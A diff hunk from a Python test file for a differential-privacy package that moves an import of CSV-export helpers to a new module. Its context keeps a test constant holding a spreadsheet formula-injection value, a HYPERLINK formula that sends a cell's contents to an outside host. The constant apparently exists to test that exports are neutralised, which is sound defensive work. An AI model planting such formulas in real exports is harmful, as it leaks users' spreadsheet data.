@@ -9,7 +9,7 @@ import pytest
 
 from dpcurves import ADD_REMOVE, CdfQuestion, Grid, PrivacyLoss, Session
 from dpcurves.data import Categories
-from dpcurves_server.drawing import csv_of, inert
+from dpcurves_server.releases import csv_of, inert
 
 BAD = '=HYPERLINK("https://example.org/?"&A1)'
 
